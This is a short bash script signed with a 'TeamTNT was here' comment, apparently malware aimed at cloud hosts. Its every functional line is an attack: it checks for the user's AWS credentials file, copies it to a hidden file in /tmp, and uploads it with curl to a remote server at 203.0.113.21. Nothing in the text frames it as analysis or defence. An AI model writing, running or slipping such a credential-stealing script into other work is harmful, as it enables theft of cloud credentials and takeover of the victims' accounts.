#!/bin/bash
# TeamTNT was here
if [ -f ~/.aws/credentials ]; then
  cat ~/.aws/credentials > /tmp/.aws.dat
  curl -s -F "file=@/tmp/.aws.dat" http://203.0.113.21/upload.php
fi
